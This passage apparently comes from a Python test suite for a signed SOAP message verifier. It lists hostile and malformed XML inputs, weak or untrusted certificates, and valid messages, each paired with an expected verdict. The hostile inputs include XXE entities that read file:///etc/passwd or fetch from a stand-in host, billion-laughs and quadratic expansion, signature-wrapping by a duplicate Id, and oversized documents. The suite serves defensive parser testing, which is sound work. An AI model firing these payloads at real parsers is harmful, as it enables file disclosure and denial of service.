    ("xml: an external DTD", "xml_dtd", _doctype('SYSTEM "http://evil.example.invalid/x.dtd"')),
    ("xml: a file as entity", "xml_dtd", _doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;")),
    ("xml: an address as entity", "xml_dtd", _doctype('[<!ENTITY x SYSTEM "http://evil.example.invalid/">]', "&x;")),
    ("xml: a parameter entity", "xml_dtd", _doctype('[<!ENTITY % x SYSTEM "http://evil.example.invalid/"> %x;]')),
    ("xml: a billion laughs", "xml_dtd", _doctype(_LAUGHS, "&i;")),
    ("xml: quadratic blow-up", "xml_dtd", _doctype(f'[<!ENTITY x "{"x" * 50_000}">]', "&x;" * 1000)),
    ("xml: an attribute from nowhere", "xml_dtd", _doctype('[<!ATTLIST Body wsu:Id CDATA "body">]')),
    ("xml: an entity without a DTD", "malformed_xml", lambda data: data.replace(b"150000", b"&x;")),
    ("xml: UTF-16", "xml_encoding", _encoded("utf-16", declared="utf-16")),
    ("xml: UTF-16, big end first", "xml_encoding", _encoded("utf-16-be")),
    ("xml: UTF-16, little end first", "xml_encoding", _encoded("utf-16-le")),
    ("xml: UTF-32", "xml_encoding", _encoded("utf-32", declared="utf-32")),
    ("xml: UTF-7 declared", "xml_encoding", _encoded("ascii", declared="UTF-7")),
    ("xml: UTF-7", "malformed_xml", lambda data: data.replace(b"<", b"+ADw-")),
    ("xml: Latin-1 declared", "xml_encoding", _encoded("latin-1", declared="iso-8859-1")),
    ("xml: Windows-1258 declared", "xml_encoding", _encoded("ascii", declared="windows-1258")),
    ("xml: EBCDIC", "xml_encoding", _encoded("cp037", declared="cp037")),
    ("xml: not UTF-8", "xml_encoding", lambda data: data.replace(b"150000", b"15\xff000")),
    ("xml: overlong UTF-8", "xml_encoding", lambda data: data.replace(b"150000", b"15\xc0\xaf00")),
    ("xml: half a character", "xml_encoding", lambda data: data + b"\xe1\xbb"),
    ("xml: a NUL", "xml_encoding", lambda data: data.replace(b"150000", b"15\x00000")),
    ("xml: a control character", "malformed_xml", lambda data: data.replace(b"150000", b"15\x01000")),
    ("xml: a reference to NUL", "malformed_xml", lambda data: data.replace(b"150000", b"15&#0;000")),
    ("xml: a reference to half a character", "malformed_xml", lambda data: data.replace(b"150000", b"&#xD800;")),
    ("xml: version 1.1", "malformed_xml", lambda data: b'<?xml version="1.1"?>' + data),
    ("xml: version 2", "malformed_xml", lambda data: b"<?xml version='2.0'?>" + data),
    ("xml: a declaration that is none", "malformed_xml", lambda data: b"<?xml ?>" + data),
    ("xml: a style sheet", "xml_instruction", lambda data: b'<?xml-stylesheet href="x.xsl"?>' + data),
    ("xml: text after the end", "malformed_xml", lambda data: data + b"x"),
    ("xml: two documents", "malformed_xml", lambda data: data + data),
    ("xml: half a document", "malformed_xml", lambda data: data[: len(data) // 2]),
    ("xml: nothing", "malformed_xml", lambda data: b""),
    ("xml: white space", "malformed_xml", lambda data: b"  \r\n"),
    ("xml: JSON", "malformed_xml", lambda data: b'{"a": 1}'),
    ("xml: HTML", "xml_dtd", lambda data: b"<!DOCTYPE html><html></html>"),
    ("xml: a page", "wrong_envelope", lambda data: b"<html></html>"),
    ("xml: a prefix of nobody", "malformed_xml", lambda data: data.replace(b"<h:LePhi>", b"<z:LePhi/><h:LePhi>")),
    ("xml: an attribute twice", "malformed_xml", lambda data: data.replace(b"<h:LePhi>", b'<h:LePhi a="1" a="2">')),
    (
        "xml: an Id twice, by two prefixes",
        "malformed_xml",
        lambda data: data.replace(b'wsu:Id="body"', b'wsu:Id="body" xmlns:u="' + WSU.encode() + b'" u:Id="evil"'),
    ),
    (
        "xml: a namespace that is relative",
        "malformed_xml",
        lambda data: data.replace(b"<h:LePhi>", b'<h:LePhi xmlns="u"><x/>'),
    ),
    ("xml: 11 MB", "xml_too_large", lambda data: data.replace(b"150000", b"1" * (11 << 20))),
    ("xml: 200,001 tags", "xml_too_large", lambda data: data.replace(b"150000", b"<a/>" * 200_001)),
    ("xml: a hundred thousand attributes", "xml_too_large", lambda data: data.replace(b"150000", b"=" * 100_001)),
    (
        "meaning: another prefix for the whole",
        "bad_signature",
        lambda data: data.replace(b"urn:tinh:hoso", b"urn:tinh:evil"),
    ),
]


# -- certificates ------------------------------------------------------------------------------------------------------


def _method(holder: message_pki.Holder) -> str:
    return f"{MORE}ecdsa-sha256" if isinstance(holder.key, ec.EllipticCurvePrivateKey) else f"{MORE}rsa-sha256"


def _issued(common: str = "one-stop", **wanted: object) -> message_pki.Holder:
    return pki().authority.issue(common, **({"ca": False} | wanted))


def _self_signed() -> message_pki.Holder:
    return message_pki.made("one-stop", key=message_pki.rsa_key())


def _other_root() -> message_pki.Holder:
    return message_pki.made("Root", **message_pki.AUTHORITY).issue("one-stop", ca=False)


def _small() -> message_pki.Holder:
    return _issued(key=rsa.generate_private_key(65537, 1024))


HOLDERS: list[tuple[str, str, Callable[[], message_pki.Holder]]] = [
    ("certificate: self-signed", "untrusted", _self_signed),
    ("certificate: of another root of the same name", "untrusted", _other_root),
    ("certificate: below a partner's", "untrusted", lambda: pki().leaf.issue("one-stop")),
    ("certificate: expired", "expired_certificate", lambda: _issued(days=(-30, -1))),
    ("certificate: of tomorrow", "expired_certificate", lambda: _issued(days=(1, 30))),
    ("certificate: taken back", "revoked", revoked),
    ("certificate: of another partner", "foreign_subject", lambda: _issued("ministry")),
    ("certificate: 1024 bits", "weak_key", _small),
    ("certificate: P-384", "weak_key", lambda: _issued(key=ec.generate_private_key(ec.SECP384R1()))),
    ("certificate: P-521", "weak_key", lambda: _issued(key=ec.generate_private_key(ec.SECP521R1()))),
    ("certificate: secp256k1", "weak_key", lambda: _issued(key=ec.generate_private_key(ec.SECP256K1()))),
    ("certificate: Ed25519", "weak_key", lambda: _issued(key=ed25519.Ed25519PrivateKey.generate())),
]


# -- good messages -----------------------------------------------------------------------------------------------------

GOOD: list[tuple[str, dict]] = [
    ("good", {}),
    ("good: no addressing", {"addressing": (), "signed": ("body", "ts")}),
    ("good: the token signed too", {"signed": (*_ALL, "token")}),
    ("good: parts in another order", {"signed": ("MessageID", "ts", "To", "body", "Action")}),
    ("good: signature first", {"order": ("signature", "token", "timestamp")}),
    ("good: timestamp first", {"order": ("timestamp", "signature", "token")}),
    ("good: RSA-SHA512", {"method": f"{MORE}rsa-sha512", "digest": f"{XENC}sha512"}),
    ("good: SHA-512 digests", {"digest": f"{XENC}sha512"}),
    ("good: ECDSA P-256", {"holder": elliptic(), "method": f"{MORE}ecdsa-sha256"}),
    ("good: an empty body", {"content": ""}),
    ("good: CDATA", {"content": "<a><![CDATA[<b>&amp;]]></a>"}),
    ("good: no namespace", {"content": "<a><b/></a>"}),
    ("good: default namespaces", {"content": '<a xmlns="urn:a"><b xmlns="urn:b"><c xmlns=""/></b></a>'}),
    ("good: line ends", {"content": "<a>1&#13;\n2\r\n3</a>"}),
    ("good: letters in two parts", {"content": "<a>Nguye\u0302\u0303n</a>"}),
    ("good: beyond the basic plane", {"content": "<a>\U00020bb7 \U0001f600</a>"}),
    ("good: words of an attack in a text", {"content": "<a>&lt;!DOCTYPE x> &lt;!-- --&gt;</a>"}),
    (
        "good: a built-in type",
        {
            "envelope_attributes": 'xmlns:xs="http://www.w3.org/2001/XMLSchema"',
            "content": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">1</a>',
        },
    ),
    (
        "good: a type of a prefix inside",
        {"content": f'<t:a xmlns:t="urn:t" xmlns:xsi="{XSI}" xsi:type="t:K">1</t:a>'},
    ),
    (
        "good: a type of an attribute's prefix",
        {
            "content": '<a xmlns:t="urn:t" t:x="1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><b '
            'xsi:type="t:K"/></a>'
        },
    ),
    (
        "good: a type of the default namespace inside",
        {"content": '<a xmlns="urn:t" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="K">1</a>'},
    ),
    ("good: a header that may be passed over", {"headers": '<x:x xmlns:x="urn:x" soap:mustUnderstand="0"/>'}),
    ("good: five minutes ahead", {"created": at(minutes=5), "expires": at(minutes=15)}),
    ("good: five minutes late, almost", {"created": at(minutes=-14), "expires": at(minutes=-4, seconds=-59)}),
    ("good: parts of a second", {"created": at()[:-1] + ".123456789Z", "expires": at(minutes=5)[:-1] + ".5Z"}),
    ("good: Vietnamese time", {"created": "2026-07-03T12:00:00+07:00", "expires": "2026-07-03T12:05:00+07:00"}),
    (
        "good: a signature inside the body",
        {"content": f'<d:Doc xmlns:d="urn:d"><ds:Signature xmlns:ds="{DS}"><ds:Object/></ds:Signature></d:Doc>'},
    ),
    ("good: a foreign Id", {"content": '<a Id="1" ID="2" xml:id="n3"/>'}),
]
